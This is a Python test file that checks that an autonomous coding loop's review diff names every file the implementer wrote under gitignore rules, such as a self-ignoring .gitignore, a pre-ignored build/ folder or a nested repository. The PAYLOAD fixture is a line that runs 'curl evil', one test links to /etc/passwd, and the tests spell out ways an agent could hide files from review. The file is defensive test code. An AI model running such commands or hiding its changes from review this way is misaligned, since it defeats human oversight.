"""The review judges the bytes in the work tree, not what ignore rules claim: every file the
implementer made or changed under an ignore rule is named with its size and hash.

Before the baseline of ignored files, a `.gitignore` that ignores itself and its folder, or a
file written into a folder ignored before the loop (`build/`), reached no review at all.
"""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from autopilot_codex import gitrepo
from autopilot_codex.gitrepo import ignored, nested
from tests.conftest import make_repo

PAYLOAD = b"import os; os.system('curl evil')\n"
SHA = hashlib.sha256(PAYLOAD).hexdigest()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(
        tmp_path / "repo", {"app.py": "x = 1\n", ".gitignore": "build/\n", "build/old.o": "o\n"}
    )


def _started(repo: Path) -> tuple[str, Path]:
    baseline = repo.parent / "state" / "nested.json"
    gitrepo.record_nested(repo, baseline)
    return gitrepo.head_sha(repo), baseline


def test_a_gitignore_that_ignores_itself_hides_nothing(repo: Path) -> None:
    base, baseline = _started(repo)
    (repo / "tools").mkdir()
    (repo / "tools/.gitignore").write_text("*\n")
    (repo / "tools/run.py").write_bytes(PAYLOAD)
    diff = gitrepo.diff_since(repo, base, baseline=baseline)
    assert f"# - tools/run.py (new, {len(PAYLOAD)} bytes, sha256 {SHA})" in diff.text
    assert "# - tools/.gitignore (new, 2 bytes" in diff.text
    assert {"tools/run.py", "tools/.gitignore"} <= set(diff.files)


def test_a_file_written_into_a_folder_ignored_before_the_loop_is_named(repo: Path) -> None:
    (repo / "build/keep.o").write_text("kept\n")  # ignored, there before the loop
    base, baseline = _started(repo)
    assert gitrepo.diff_since(repo, base, baseline=baseline).empty
    (repo / "build/payload.sh").write_bytes(PAYLOAD)
    (repo / "build/keep.o").write_text("kept, then changed\n")
    text = gitrepo.diff_since(repo, base, baseline=baseline).text
    assert f"# - build/payload.sh (new, {len(PAYLOAD)} bytes, sha256 {SHA})" in text
    assert "# - build/keep.o (changed, 19 bytes" in text


def test_a_removed_ignored_file_and_a_link_are_named(repo: Path) -> None:
    (repo / "build/gone.o").write_text("g\n")
    base, baseline = _started(repo)
    (repo / "build/gone.o").unlink()
    (repo / "build/link").symlink_to("/etc/passwd")
    text = gitrepo.diff_since(repo, base, baseline=baseline).text
    assert "# - build/gone.o (removed)" in text
    assert "# - build/link (new, a link to '/etc/passwd')" in text


def test_ignored_files_past_the_bound_are_counted(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    base, baseline = _started(repo)
    for n in range(5):
        (repo / f"build/f{n}").write_text("x\n")
    (repo / "tools").mkdir()
    (repo / "tools/.gitignore").write_text("*\n")
    (repo / "tools/payload.sh").write_bytes(PAYLOAD)
    monkeypatch.setattr(ignored, "NAMED_MAX", 3)
    diff = gitrepo.diff_since(repo, base, baseline=baseline)
    # The folders with the fewest changes first: the planted pair is named, the many counted.
    assert f"# - tools/payload.sh (new, {len(PAYLOAD)} bytes, sha256 {SHA})" in diff.text
    assert "# - tools/.gitignore (new" in diff.text
    assert diff.text.count("# - build/f") == 1
    assert "# ... and 4 more new, changed or removed in build/" in diff.text
    assert "" not in diff.files


def test_an_ignored_file_that_cannot_be_read_is_named_so(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, baseline = _started(repo)
    recorded = nested.load(baseline)
    assert recorded is not None
    (repo / "build/locked").write_text("x\n")
    (repo / "build/link").symlink_to("locked")
    listed = ignored.listing(repo)
    monkeypatch.setattr(ignored, "listing", lambda _: [*listed, "build/vanished"])

    def refuse(*_: object, **__: object) -> object:
        raise PermissionError(13, "denied")

    monkeypatch.setattr(os, "open", refuse)
    monkeypatch.setattr(Path, "readlink", refuse)
    text = "\n".join(line for _, line in ignored.changes(repo, recorded[1], lambda _: False))
    assert "# - build/locked (new, unreadable 13)" in text
    assert "# - build/link (new, unreadable 13)" in text
    assert "vanished" not in text  # listed, then gone before its stat


def test_a_cache_rewritten_with_the_same_bytes_is_not_named(repo: Path) -> None:
    (repo / "build/cache").write_text("same\n")
    base, baseline = _started(repo)
    (repo / "build/cache").unlink()
    (repo / "build/cache").write_text("same\n")  # a new inode and ctime, the same bytes
    assert gitrepo.diff_since(repo, base, baseline=baseline).empty
    (repo / "build/cache").write_text("other\n")
    assert "# - build/cache (changed, 6 bytes" in _text(repo, base, baseline)


def _text(repo: Path, base: str, baseline: Path) -> str:
    return gitrepo.diff_since(repo, base, baseline=baseline).text


def test_a_large_ignored_file_is_named_whenever_its_stat_changes(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ignored, "RECORD_MAX", 4)
    (repo / "build/big.bin").write_text("large\n")
    base, baseline = _started(repo)
    assert gitrepo.diff_since(repo, base, baseline=baseline).empty
    os.utime(repo / "build/big.bin", ns=(1, 1))  # its bytes kept, but never read at the start
    assert "# - build/big.bin (changed, 6 bytes" in _text(repo, base, baseline)


def test_a_repository_made_in_an_ignored_folder_is_named_file_by_file(repo: Path) -> None:
    base, baseline = _started(repo)
    make_repo(repo / "build/inner", {"run.py": PAYLOAD.decode(), "deep/x.py": "x\n"})
    text = _text(repo, base, baseline)
    assert f"# - build/inner/run.py (new, {len(PAYLOAD)} bytes, sha256 {SHA})" in text
    assert "# - build/inner/deep/x.py (new, 2 bytes" in text
    assert "build/inner/.git" not in text
